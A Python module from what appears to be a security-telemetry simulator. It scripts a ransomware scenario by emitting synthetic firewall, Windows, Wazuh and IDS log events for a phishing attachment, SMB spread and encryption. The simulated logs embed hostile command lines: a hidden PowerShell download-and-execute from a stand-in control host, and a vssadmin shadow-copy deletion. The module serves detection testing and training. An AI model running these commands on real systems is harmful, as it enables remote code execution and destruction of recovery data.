"""Ransomware: a mail attachment, its caller, credentials, services on servers, shadow copies gone, files encrypted."""

from __future__ import annotations

from simulator.attacks._common import CMD, POWERSHELL, beacon, dump_credentials, look_around
from simulator.equipment import Asset
from simulator.formats import wazuh, windows
from simulator.scene import Attack, Scene


def _attachment(scene: Scene, victim: Asset, user: str) -> None:
    scene.step("malicious attachment opened", "T1204.002", 20)
    scene.write("fw", lambda at: scene.wall.virus(at, scene.of(victim), (scene.control, 80), "VBA/Agent.DEMO!tr.dldr",
                                                  "报价单.docm", scene.sha256("macro"), blocked=False))  # fmt: skip
    scene.write("win", lambda at: scene.hosts.process(
        at, victim, POWERSHELL, f"powershell -w hidden IEX(iwr http://{scene.control_name}/a.ps1)", user,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "T1566.001"), delay=20)  # fmt: skip
    scene.write("hids", lambda at: scene.hosts.wazuh(
        at, victim, 92052, 12, "Office application started a scripting engine: possible malicious document",
        ("sysmon", "sysmon_eid1_detections", "windows"), ("T1204.002", "Execution", "Malicious File")), delay=21)  # fmt: skip
    scene.write("ids", lambda at: scene.sensor.alert(
        at, scene.of(victim), (scene.control, 80), "MALWARE Downloader fetching second stage script",
        "A Network Trojan was detected", severity=1, techniques=("T1105",), app="http"), delay=25)  # fmt: skip


def _spread(scene: Scene, origin: Asset, targets: list[Asset]) -> None:
    scene.step("service on servers over SMB", "T1569.002", 1200)
    for target in targets:
        scene.write("ids", lambda at, target=target: scene.sensor.alert(  # type: ignore[misc]
            at, scene.of(origin), (target.address, 445), "POLICY PsExec service created over SMB", "Potentially Bad Traffic",
            severity=2, techniques=("T1021.002",), app="smb"))  # fmt: skip
        scene.write(
            "win",
            lambda at, target=target: scene.hosts.logon(at, target, "administrator", origin.address, 3),  # type: ignore[misc]
            delay=1,
        )
        scene.write("win", lambda at, target=target: windows.service_installed(  # type: ignore[misc]
            at, scene.hosts.computer(target), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "LocalSystem",
            record=scene.hosts.record()), delay=2)  # fmt: skip
        scene.pause(90)


def _encrypt(scene: Scene, targets: list[Asset]) -> None:
    scene.step("shadow copies deleted", "T1490", 600)
    for target in targets:
        scene.write("win", lambda at, target=target: scene.hosts.process(  # type: ignore[misc]
            at, target, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "SYSTEM", CMD,
            "T1490"))  # fmt: skip
        scene.write("hids", lambda at, target=target: scene.hosts.wazuh(  # type: ignore[misc]
            at, target, 92032, 12, "Volume shadow copies deleted with vssadmin: possible ransomware",
            ("sysmon", "sysmon_eid1_detections", "windows"), ("T1490", "Impact", "Inhibit System Recovery")), delay=1)  # fmt: skip
        scene.pause(20)
    scene.step("files encrypted", "T1486", 60)
    for target in targets:
        agent = scene.hosts.agent(target)
        scene.repeat("hids", 25, 60, lambda at, agent=agent: wazuh.integrity(  # type: ignore[misc]
            at, agent, f"D:\\data\\{scene.rng.randrange(10**5)}.dwg.locked", "added",
            sha256=f"{scene.rng.getrandbits(256):064x}", size=scene.rng.randint(10_000, 900_000)))  # fmt: skip
        scene.write("hids", lambda at, target=target: scene.hosts.wazuh(  # type: ignore[misc]
            at, target, 100_210, 15, "Ransom note written and many files renamed: ransomware",
            ("ossec", "syscheck", "ransomware"), ("T1486", "Impact", "Data Encrypted for Impact")))  # fmt: skip
    scene.write("ids", lambda at: scene.sensor.alert(
        at, scene.of(targets[0]), (scene.control, 443), "MALWARE Ransomware key exchange beacon",
        "Malware Command and Control Activity Detected", severity=1, techniques=("T1486",), app="tls"))  # fmt: skip


def play(scene: Scene) -> None:
    victim, servers = scene.asset("workstation"), scene.site.all_of("server", "historian")[:3]
    _attachment(scene, victim, scene.user())
    beacon(scene, victim, 10, 1500)
    dump_credentials(scene, victim)
    look_around(scene, victim, servers, 445, over=120)
    _spread(scene, victim, servers)
    _encrypt(scene, servers)


ATTACK = Attack("ransomware", "勒索软件", "Ransomware", ("industrial", "platform"), ("ids", "hids"), 5400, play)
